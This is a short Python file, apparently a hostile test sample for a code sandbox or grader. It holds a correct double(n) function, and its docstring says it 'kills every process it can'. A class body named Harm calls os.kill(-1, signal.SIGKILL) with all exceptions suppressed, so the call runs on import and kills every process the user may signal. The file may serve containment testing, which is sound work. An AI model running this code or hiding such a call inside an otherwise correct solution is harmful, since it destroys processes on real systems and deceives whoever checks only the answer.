"""Kills every process it can. Its answer is right."""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time


class Harm:
    libc = ctypes.CDLL(None)
    with contextlib.suppress(BaseException):
        os.kill(-1, signal.SIGKILL)


def double(n):
    return n + n
